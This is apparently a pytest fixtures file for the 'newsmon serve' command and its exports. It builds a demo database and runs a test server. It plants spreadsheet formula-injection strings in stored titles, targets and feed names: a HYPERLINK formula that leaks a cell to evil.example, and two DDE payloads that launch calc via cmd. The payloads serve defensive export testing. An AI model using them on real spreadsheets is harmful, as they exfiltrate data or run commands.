"""Fixtures for ``newsmon serve`` and the exports: a crawled demo database and a running server."""

from __future__ import annotations

import os
import queue
import shutil
import sqlite3
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.conftest import REPO, newsmon

#: Stored text that a spreadsheet would run, or that looks like markup or a control sequence.
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click here") [bold]x[/bold]'
HOSTILE_TARGET = "+cmd|' /C calc'!A0"
HOSTILE_FEED = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="session")
def demo_db(tmp_path_factory) -> Path:
    """The demo site crawled once for the whole session (never written to afterwards)."""
    path = tmp_path_factory.mktemp("serve-demo") / "demo.db"
    newsmon("demo", "--db", f"sqlite:///{path}", timeout=120)
    return path


@pytest.fixture
def demo_copy(demo_db, tmp_path) -> Path:
    """A private copy of the demo database that a test may change."""
    path = tmp_path / "demo.db"
    source = sqlite3.connect(demo_db)
    target = sqlite3.connect(path)
    source.backup(target)
    source.close()
    target.close()
    return path


@pytest.fixture
def hostile_db(demo_copy) -> Path:
    """The demo database with formula-looking text in an article title, a target, a feed name."""
    conn = sqlite3.connect(demo_copy)
    with conn:
        conn.execute("UPDATE articles SET title = ? WHERE id = (SELECT MIN(id) FROM articles)",
                     (HOSTILE_TITLE,))
        conn.execute("UPDATE deals SET target = ? WHERE id = (SELECT MIN(id) FROM deals)",
                     (HOSTILE_TARGET,))
        conn.execute("UPDATE feeds SET name = ? WHERE id = (SELECT MIN(id) FROM feeds)",
                     (HOSTILE_FEED,))
    conn.close()
    return demo_copy


def query(path: Path, sql: str, *params) -> list[tuple]:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


def expected_feed(path: Path, where: str = "1=1") -> tuple[list[str], set[str]]:
    """Entry ids the deals feed must have for deals matching ``where`` (SQL on ``d``): the
    deal events newest first, and the latest amount of each deal whose articles about it gave
    two amounts or more."""
    from newsmon.dealfeed import amount_entry_id, event_entry_id

    events = query(path, "SELECT e.id FROM deal_events e JOIN deals d ON d.id = e.deal_id "
                         f"WHERE {where} ORDER BY e.created_at DESC, e.id DESC")
    amounts = query(path, "SELECT d.id, m.amount, m.currency FROM deal_mentions m JOIN deals d "
                          f"ON d.id = m.deal_id WHERE m.is_primary AND m.amount IS NOT NULL "
                          f"AND {where} AND d.id IN (SELECT deal_id FROM deal_mentions WHERE "
                          "is_primary GROUP BY deal_id HAVING COUNT(DISTINCT amount) >= 2) "
                          "ORDER BY d.id, m.seen_at DESC, m.id DESC")
    latest = {}
    for deal_id, amount, currency in amounts:
        latest.setdefault(deal_id, amount_entry_id(deal_id, amount, currency))
    return [event_entry_id(i) for (i,) in events], set(latest.values())


def _read_lines(stream, lines: queue.Queue) -> None:
    for line in stream:
        lines.put(line)


@contextmanager
def serving(db: Path, *args: str, timeout: float = 30) -> Iterator[str]:
    """Run the real ``newsmon serve --port 0`` on ``db``; yield the URL it prints."""
    command = [sys.executable, "-m", "newsmon", "serve", "--db", str(db), "--port", "0", *args]
    proc = subprocess.Popen(command, cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            text=True, stdin=subprocess.DEVNULL, env=dict(os.environ))
    lines: queue.Queue = queue.Queue()
    threading.Thread(target=_read_lines, args=(proc.stdout, lines), daemon=True).start()
    try:
        first = lines.get(timeout=timeout)
        assert first.startswith("newsmon serve: http://"), first
        url = first.split()[2]
        yield url.replace("0.0.0.0", "127.0.0.1")
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def fetch(url: str) -> tuple[int, str]:
    """Status and body of a GET (errors included)."""
    try:
        with urllib.request.urlopen(url, timeout=30) as response:
            return response.status, response.read().decode("utf-8")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8")


def chromium_paths() -> tuple[str, str] | None:
    """The Chromium and chromedriver executables, when both are installed."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    driver = shutil.which("chromedriver")
    return (browser, driver) if browser and driver else None
